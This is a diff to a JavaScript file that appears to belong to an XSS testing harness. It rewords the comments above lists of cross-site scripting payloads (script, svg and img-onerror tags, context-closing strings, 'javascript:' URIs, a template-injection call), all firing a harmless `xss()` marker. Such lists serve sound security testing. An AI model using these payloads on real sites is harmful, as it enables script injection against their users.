@@ -1,6 +1,6 @@
-// Ways to smuggle a script into words. Each calls `xss`, which every page of the proof knows.
+// Ways to smuggle a script into text. Each calls `xss`, which every page of the proof defines.
 
-/** Tried several in one text. */
+/** Several of these are tried in one text. */
 const TOGETHER = [
   '<script>xss()</script>',
   '<svg/onload=xss()>',
@@ -44,7 +44,7 @@ const TOGETHER = [
   '<template><script>xss()</script></template>',
   '<noscript><p title="</noscript><img src=x onerror=xss()>">',
 ];
-/** End what they stand in, each of them something else: together the others do them no harm. */
+/** Each ends a different context; they can be combined without affecting each other. */
 const ENDINGS = [
   '</script><script>xss()</script>',
   '</title><script>xss()</script>',
@@ -54,7 +54,7 @@ const ENDINGS = [
   ']]><script>xss()</script>',
   '{{constructor.constructor("xss()")()}}',
 ];
-/** Must begin what they stand in, or are spoiled by a quote before them. */
+/** Each must be at the beginning of the text, or a quote before it would spoil it. */
 const ALONE = [
   'javascript:xss()',
   'JaVaScRiPt:xss()//',
@@ -70,7 +70,7 @@ const ALONE = [
   '\u2028xss()//',
 ];
 const GROUP = 7;
-/** What is put into a slot at once; into a short one, as much as fits. */
+/** The texts to put into a field; into a short field, as much as fits. */
 export const LOADS = [
   ...Array.from({ length: Math.ceil(TOGETHER.length / GROUP) }, (_, at) =>
     TOGETHER.slice(at * GROUP, (at + 1) * GROUP),
